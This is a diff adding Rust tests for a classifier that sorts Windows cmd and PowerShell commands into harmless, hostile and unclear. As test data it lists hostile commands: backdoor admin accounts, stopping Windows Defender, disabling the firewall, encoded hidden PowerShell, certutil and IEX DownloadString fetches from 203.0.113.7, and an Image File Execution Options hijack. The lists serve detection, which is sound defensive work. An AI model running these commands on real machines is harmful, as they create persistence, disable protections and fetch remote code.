@@ -1,0 +1,134 @@
+//! What commands do.
+
+use super::{Deed, judge};
+use crate::evidence::windows::{FirstCommand, Language};
+use crate::policy::checks::windows::testing::with_context;
+
+fn command(text: &str, language: Language) -> FirstCommand {
+    FirstCommand {
+        source: "x".into(),
+        text: text.into(),
+        language,
+        certain: true,
+        followed: false,
+        writes: Vec::new(),
+        reads: Vec::new(),
+    }
+}
+
+#[test]
+fn usual_commands_harm_nobody() {
+    let batch = [
+        "@echo off",
+        "sc config cloudbase-init start= auto",
+        "sc.exe config cloudbase-init start=delayed-auto",
+        "net start cloudbase-init",
+        "net start W32Time",
+        "net stop W32Time",
+        r"cscript //b %windir%\system32\slmgr.vbs /skms kms.tencentyun.com:1688",
+        r"cscript //nologo C:\Windows\System32\slmgr.vbs /ato",
+        r#"reg add "HKLM\SOFTWARE\My App" /v Installed /t REG_DWORD /d 1 /f"#,
+        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#,
+        r"reg add HKLM\SOFTWARE\Microsoft\ServerManager /v DoNotOpenServerManagerAtLogon /t REG_DWORD /d 1 /f",
+        "timeout /t 5",
+        "ping -n 3 127.0.0.1",
+        r"del /q C:\Windows\Panther\unattend.xml",
+        r"rd /s /q C:\Windows\Setup\Scripts",
+        r"del %0",
+        "net user administrator /active:yes",
+        r#"netsh advfirewall firewall set rule group="remote desktop" new enable=Yes"#,
+        r"bcdedit /set {default} recoveryenabled no",
+        "set a=b",
+    ];
+    let power = [
+        "Write-Host 'done'",
+        "$a = Get-Date",
+        "Start-Sleep -Seconds 3",
+        "if (Test-Path C:\\x)",
+        "Set-ExecutionPolicy RemoteSigned -Force",
+        "Start-Service -Name cloudbase-init",
+        "net start W32Time",
+        "exit 0",
+    ];
+    with_context(|context| {
+        for text in batch {
+            let deed = judge(context, &command(text, Language::Command));
+            assert_eq!(deed, Deed::Harmless, "{text}");
+        }
+        for text in power {
+            let deed = judge(context, &command(text, Language::PowerShell));
+            assert_eq!(deed, Deed::Harmless, "{text}");
+        }
+    });
+}
+
+#[test]
+fn attacks_fail_and_the_rest_can_t_be_told() {
+    let hostile = [
+        "net user hax P@ss.2024 /add",
+        "net1 user hax P@ss /ad",
+        "net localgroup Administrators hax /add",
+        "net user administrator P@ss.2024",
+        "net user administrator /active:no",
+        "sc config cloudbase-init start= disabled",
+        "sc delete win-agent",
+        "sc stop WinDefend",
+        "sc config cloudbase-init binPath= C:\\x.exe",
+        r"sc create evil type= kernel start= boot binPath= C:\x.sys",
+        "bcdedit /set testsigning on",
+        "netsh advfirewall set allprofiles state off",
+        "powershell -nop -w hidden -enc SQBFAFgA",
+        "powershell \u{2013}e SQBFAFgA",
+        "certutil -urlcache -f http://203.0.113.7/a a.exe",
+        r"reg add HKLM\SYSTEM\CurrentControlSet\Services\cloudbase-init /v Start /t REG_DWORD /d 4 /f",
+        r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\x.exe" /v Debugger /d y"#,
+        "taskkill /f /im WinAgent.exe",
+        r"rd /s /q C:\WinAgent",
+    ];
+    let unclear = [
+        r"C:\ProgramData\x.exe",
+        r"copy C:\docs\password.txt C:\Users\Public\Desktop\",
+        r"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v x /d C:\x.exe",
+        "sc create x binPath= C:\\x.exe",
+        "schtasks /create /tn x /tr y",
+        "rundll32 x,y",
+        "curl http://203.0.113.7/",
+        "set path=C:\\x",
+        r"call D:\x.cmd",
+        r"del /q C:\Windows\System32\x.dll",
+        "netsh interface ip set dns x static 203.0.113.9",
+        "sc config cloudbase-init start= demand",
+        "mshta http://203.0.113.7/",
+    ];
+    let power = [
+        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
+        "iex $a",
+        "New-LocalUser x",
+        "net user hax P@ss.2024 /add",
+        "Set-MpPreference -DisableRealtimeMonitoring $true",
+    ];
+    with_context(|context| {
+        for text in hostile {
+            let deed = judge(context, &command(text, Language::Command));
+            assert!(matches!(deed, Deed::Hostile(_)), "{text}: {deed:?}");
+        }
+        for text in unclear {
+            let deed = judge(context, &command(text, Language::Command));
+            assert!(matches!(deed, Deed::Unclear(_)), "{text}: {deed:?}");
+        }
+        for text in power {
+            let deed = judge(context, &command(text, Language::PowerShell));
+            assert!(matches!(deed, Deed::Hostile(_)), "{text}: {deed:?}");
+        }
+        for text in [
+            "$x.Invoke()",
+            "[Console]::Beep()",
+            "Foo-Bar",
+            ". x.ps1",
+            "& $a",
+        ] {
+            let deed = judge(context, &command(text, Language::PowerShell));
+            assert!(matches!(deed, Deed::Unclear(_)), "{text}: {deed:?}");
+        }
+    });
+}
